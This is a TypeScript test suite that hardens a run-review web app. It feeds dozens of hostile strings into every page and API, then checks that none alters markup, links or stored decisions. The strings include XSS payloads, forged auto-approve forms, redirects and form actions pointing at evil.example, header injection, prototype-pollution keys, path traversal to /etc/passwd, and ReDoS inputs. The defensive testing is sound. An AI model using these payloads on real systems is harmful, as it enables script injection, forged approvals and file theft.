/** Whatever an agent, a subject or a reviewer wrote: it is shown as text, in every place of every page. */
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { toQuotableText } from '../../src/gate/rules/comment-parts.ts';
import { HOSTILE, skeleton } from '../report/hostile.ts';
import { signedIn, type Client } from './client.ts';
import { openDesk, SAMPLE, TRACE, type Desk } from './desk.ts';
import { threadCpu } from '../support/thread-cpu.ts';

/** On top of what the reports are held against: what is dangerous on a page that takes answers. */
const MORE: readonly string[] = [
  '<form action="/runs/run-1/gates/HITL-1.r1" method="post"><button name="decision" value="approve">Help</button></form>',
  '</textarea><script>document.forms[0].submit()</script>',
  '</title></style><svg/onload=fetch("/api/gates")>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<input type="hidden" name="decision" value="approve">',
  '"><input name="confirm" value="accept" form="decision">',
  '<a href="javascript:alert(1)" class="proof">evidence</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><use href="data:image/svg+xml,x#y"/></svg>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>',
  '<button formaction="//evil.example">x</button>',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '${alert(1)} {{constructor.constructor("alert(1)")()}} <%= 1 %>',
  '--></script><!-- event: state\ndata: {"digest":"x"}\n\n',
  'data: {"gate":""}\n\nevent: state',
  '\r\nset-cookie: tandem-review=x\r\n\r\n',
  '- item\n<img src=x onerror=alert(1)>\n1. <b>',
  '# <h1>x</h1>\n```\n<script>\n```\n| <td> |',
  '`<b>`<i>`',
  '+++ <b>plus</b>\n--- <i>minus</i>\n@@ <u>@@</u>',
  '__proto__',
  'constructor',
  'execution_outputs/iteration_1/traces/../../../../etc/passwd.1.jsonl',
  'execution_outputs/iteration_1/traces/a.1.jsonl" onclick="alert(1)',
];
const CORPUS = [...new Set([...HOSTILE, ...MORE])].filter((text) => text.trim() !== '' && text.length < 4000);

let desk: Desk;
let client: Client;

/** A run in which every text is one of these, or all of them: rules, design, prompt, questions, samples, traces. */
async function infest(id: string, texts: readonly string[]): Promise<void> {
  const rules = texts.map((text, index) => ({ id: `R${index + 1}`, title: text, text: `${text} first ${text}` }));
  const all = texts.join('\n\n');
  const design = { rules, narrative: all, prompt: all };
  const changed = rules.map((rule) => ({ ...rule, text: `${rule.title} second ${rule.title}` }));
  const run = await desk.waiting(id, [design, { ...design, rules: changed, questions: texts }]);
  const place = join(run.dir, 'execution_outputs/iteration_1');
  const sample = { ...SAMPLE, title: all, user: { says_first: all } };
  await writeFile(join(place, 'samples/return-in-time.json'), JSON.stringify(sample));
  const lines = texts.flatMap((text) => [
    { type: 'user', step: 0, text },
    { type: 'says', step: 1, text },
    {
      ...CALL,
      tool: text,
      input: { [text]: text },
      output: text,
      change: [{ op: 'add', path: `/${text}`, value: text }],
    },
  ]);
  const world = { ...Object.fromEntries(texts.map((text) => [`${text} `, text])) };
  const trace = TRACE.flatMap((line): object[] =>
    'output' in line ? lines : [{ ...line, ...('final' in line ? { world } : {}) }],
  );
  await infestResults(place, texts);
  await writeFile(
    join(place, 'traces/return-in-time.1.jsonl'),
    `${trace.map((line) => JSON.stringify(line)).join('\n')}\n`,
  );
}

/** Titles, categories, rules, reasons and code that agents wrote, all of them hostile. */
async function infestResults(place: string, texts: readonly string[]): Promise<void> {
  const all = texts.join('\n\n');
  const path = join(place, 'results.json');
  const results = JSON.parse(await readFile(path, 'utf8')) as { samples: { trials: object[] }[] };
  const verdicts = texts.map((text) => ({ checker: text, pass: false, reason: text, evidence: [text, text] }));
  const about = { title: all, category: all, covers: texts, why: texts, outcome: 'fail', layer: 4, cause: '4b' };
  results.samples = results.samples.map((sample) => ({
    ...sample,
    ...about,
    trials: sample.trials.map((trial) => ({ ...trial, outcome: 'fail', verdicts, toolFault: all })),
  }));
  await writeFile(path, JSON.stringify(results));
  await mkdir(join(place, 'checkers'), { recursive: true });
  await writeFile(join(place, 'checkers/identity.mjs'), all);
}

/** A batch of this run and of runs that are named like every text. */
async function infestBatch(id: string, texts: readonly string[]): Promise<void> {
  await desk.batch(id, [id, ...texts]);
  const path = join(desk.root, `batches/${id}.json`);
  const batch = JSON.parse(await readFile(path, 'utf8')) as { actor: string; runs: { scenario: string }[] };
  batch.actor = `user:${texts.join(' ')}`;
  for (const [index, run] of batch.runs.entries())
    run.scenario = index === 0 ? 'refund-desk' : (texts[index - 1] ?? '');
  await writeFile(path, JSON.stringify(batch));
}

/** Comments of the reviewer on every rule, on words of it and on lines, all of them hostile too. */
async function infestComments(id: string, texts: readonly string[]): Promise<void> {
  const gate = `/runs/${id}/gates/HITL-1.r2`;
  const anchors = [
    'R1',
    `R1 "${toQuotableText(texts[1] ?? 'x')}"`,
    'business_rules.yaml:1',
    `format_spec.yaml removed "${toQuotableText(texts[2] ?? 'x')}"`,
  ];
  for (const [index, on] of anchors.entries()) {
    const place = `${gate}/comment?on=${encodeURIComponent(on)}`;
    const text = texts
      .filter((_, at) => at % anchors.length === index)
      .join('\n')
      .slice(0, 1900);
    const kept = await client.send(`${gate}/comment`, { on, text }, { from: place });
    if (kept.status !== 303) throw new Error(`${on}: ${kept.status}`);
  }
}

const CALL = { type: 'call', step: 1, is_error: false };

const PLACES = (id: string) => [
  '/',
  '/runs',
  `/runs/${id}`,
  `/runs/${id}/gates/HITL-1.r2`,
  `/runs/${id}/gates/HITL-1.r1`,
  `/runs/${id}/gates/HITL-1.r2/design`,
  `/runs/${id}/gates/HITL-1.r2/edit`,
  `/runs/${id}/iterations/1/samples/return-in-time`,
  `/runs/${id}/iterations/1/samples/return-in-time/trials/1?raw=3`,
  `/runs/${id}/iterations/1/files/checkers/identity.mjs`,
  `/runs/${id}/iterations/1/samples/return-in-time/words?trial=1`,
  `/runs/${id}/gates/HITL-1.r2/edit?rule=R1`,
  `/runs/${id}/results?find=return`,
  `/compare?run=${id}&run=${id}@1`,
  `/runs/${id}/gates/HITL-1.r2?rows=all&also=all`,
  `/runs/${id}/gates/HITL-1.r2/comment?on=R1`,
  '/batches',
  `/batches/${id}`,
];

/** Tags with their attributes' names; what a page is made of, whatever its texts. */
const kinds = (markup: string): string[] => [...new Set(skeleton(markup).map((tag) => tag.replace(/\s+/g, ' ')))];

let known: Set<string>;

beforeAll(async () => {
  desk = await openDesk();
  await infest('plain', ['a `plain` text', '# heading\nnext', '- item\n- item', '```\nx\n```', '+ a\n- b\n@@ c']);
  // Two evaluated runs of one scenario have a trend.
  await infest('plain-2', ['a plain text']);
  client = await signedIn(desk.review());
  const plain = ['a plain text', 'b plain text', 'c plain text', 'd plain text'];
  await infestBatch('plain', plain);
  await infestComments('plain', plain);
  const pages = await Promise.all(PLACES('plain').map((path) => client.get(path)));
  expect(pages.map(({ status }) => status)).toEqual(PLACES('plain').map(() => 200));
  known = new Set(pages.flatMap(({ text }) => kinds(text)));
});
afterAll(() => desk.remove());

test('the corpus has at least sixty texts', () => {
  expect(CORPUS.length).toBeGreaterThanOrEqual(60);
});

test('no text changes what any page is made of: no tag, no attribute, no address', async () => {
  await infest('hostile', CORPUS);
  await infestBatch('hostile', CORPUS);
  await infestComments('hostile', CORPUS);
  for (const path of PLACES('hostile')) {
    const page = await client.get(path);
    expect(page.status, path).toBe(200);
    const strange = kinds(page.text).filter((tag) => !known.has(tag));
    expect(strange, path).toEqual([]);
    for (const [, address = ''] of page.text.matchAll(/\s(?:href|src|action|formaction)="([^"]*)"/g)) {
      expect(address, path).toMatch(/^(\/(?!\/)|#|data:,$)/);
    }
  }
});

test('a comment that is hostile stays a comment, on the page and in the journal', async () => {
  const run = await desk.waiting('commented');
  const path = '/runs/commented/gates/HITL-1.r1';
  const text = MORE.slice(0, 12).join('\n');
  expect((await client.send(path, { decision: 'approve', comment: text })).status).toBe(303);
  expect((await desk.state(run)).decisions[0]?.comment).toBe(text.trim());
  expect(
    kinds((await client.get(path)).text).filter((tag) => !known.has(tag) && !tag.startsWith('<div class')),
  ).toEqual([]);
});

describe('addresses that try to lead elsewhere', () => {
  test('a dot is the folder itself: the list of runs', async () => {
    const title = /<title>.*<\/title>/;
    const here = title.exec((await client.reach('/runs/.')).text)?.[0];
    expect(here).toBe(title.exec((await client.get('/runs')).text)?.[0]);
    expect(here).toContain('Runs');
  });

  test.each([
    '/runs/..%2f..%2f..%2fetc/gates/HITL-1.r1',
    '/runs/%2e%2e%2f%2e%2e/gates/HITL-1.r1',
    '/runs/%2Ftmp/gates/HITL-1.r1',
    '/runs/scenarios',
    '/runs/%00',
    '/runs/plain%00',
    '/runs/pl',
    '/runs/plain/gates/HITL-1.r1%2f..%2f..%2fdesign',
    '/runs/plain/gates/HITL-1.r0',
    '/runs/plain/gates/HITL-1.r99999',
    '/runs/plain/gates/HITL-2.r1',
    '/runs/plain/gates/__proto__',
    '/runs/plain/iterations/1/samples/..%2f..%2fresults',
    '/runs/plain/iterations/1/samples/%2e%2e',
    '/runs/plain/iterations/1/samples/constructor',
    '/runs/plain/iterations/1e3/samples/return-in-time',
    '/runs/plain/iterations/-1/samples/return-in-time',
    '/runs/plain/iterations/99999999/samples/return-in-time',
    '/runs/plain/transcripts/..%2fevents%2f000000',
    '/runs/plain/transcripts/__proto__',
    '/runs/__proto__',
    '/runs/constructor/live',
    '/assets/..%2f..%2fpackage.json',
    '/assets/review.js',
    '/.env',
    '/%ff%fe',
    `/runs/${'a'.repeat(10_000)}`,
    `/${'/'.repeat(2000)}`,
  ])('%s is not here', async (path) => {
    const page = await client.reach(path);
    expect(page.status).toBe(404);
    expect(page.text).not.toMatch(/scenario\.yaml|"version"|root:|\/tmp\//);
  });
});

describe('fields and bodies that try to become more', () => {
  test('a field named like an inner part of an object changes nothing', async () => {
    const run = await desk.waiting('polluted');
    const path = '/runs/polluted/gates/HITL-1.r1';
    await client.send(path, {
      decision: 'approve',
      __proto__: 'x',
      'on.__proto__': 'x',
      'constructor.prototype': 'x',
      actor: 'user:eve',
      via: 'api',
      'also[]': 'x',
    });
    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
    expect((await desk.state(run)).decisions[0]).toMatchObject({ actor: 'user:ada', via: 'page', comment: '' });
  });

  test.each([
    ['an actor of its own', '{"digest":"DIGEST","decision":"approve","nonce":"nnnnnnnn","actor":"user:eve"}', 400],
    [
      'a prototype',
      '{"digest":"DIGEST","decision":"approve","nonce":"nnnnnnnn","__proto__":{"actor":"user:eve"}}',
      400,
    ],
    ['an unknown decision', '{"digest":"DIGEST","decision":"toString","nonce":"nnnnnnnn"}', 400],
    ['a number for a digest', '{"digest":12345678901234,"decision":"approve","nonce":"nnnnnnnn"}', 400],
    ['an empty digest', '{"digest":"","decision":"approve","nonce":"nnnnnnnn"}', 400],
    [
      'edits of another file',
      '{"digest":"DIGEST","decision":"edit_approve","nonce":"nnnnnnnn","edits":{"../../x":"y"}}',
      422,
    ],
    [
      'edits of a guarded file',
      '{"digest":"DIGEST","decision":"edit_approve","nonce":"nnnnnnnn","edits":{"manifest.json":"{}"}}',
      422,
    ],
    ['edits of nothing', '{"digest":"DIGEST","decision":"edit_approve","nonce":"nnnnnnnn","edits":{}}', 422],
    ['no JSON', '{"digest":', 400],
    ['an array', '[]', 400],
    ['deep nesting', '['.repeat(50_000), 400],
  ])('the API refuses %s', async (_name, body, status) => {
    const id = `api-${status}-${body.length}`;
    const run = await desk.waiting(id);
    const digest = (await desk.state(run)).designs[0]?.digest ?? '';
    const page = await client.post(
      `/api/gates/${id}.HITL-1.r1/decision`,
      body.replace('DIGEST', digest),
      'application/json',
    );
    expect(page.status).toBe(status);
    expect((await desk.state(run)).status).toBe('awaiting_approval');
  });

  test.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', ''])(
    'the API takes no body of type %j, which another site could send',
    async (type) => {
      const page = await client.post('/api/gates/plain.HITL-1.r2/decision', '{}', type);
      expect(page.status).toBe(400);
    },
  );
});

test('texts that make bad patterns run for ever do not', async () => {
  const texts = [
    '`'.repeat(20_000),
    '- '.repeat(10_000),
    `${'\n'.repeat(20_000)}x`,
    'a@'.repeat(10_000),
    `"${'x"'.repeat(8_000)}`,
    `R${'1'.repeat(20_000)}`,
  ];
  for (const [index, text] of texts.entries()) {
    const rules = [{ id: 'R1', title: 't', text: `${text}!` }];
    await desk.waiting(`slow-${index}`, [{ rules, narrative: text, prompt: text }]);
    const cpu = threadCpu();
    for (const path of [`/runs/slow-${index}/gates/HITL-1.r1`, `/runs/slow-${index}/gates/HITL-1.r1/design`])
      expect((await client.get(path)).status).toBe(200);
    expect(cpu()).toBeLessThan(1500);
  }
});
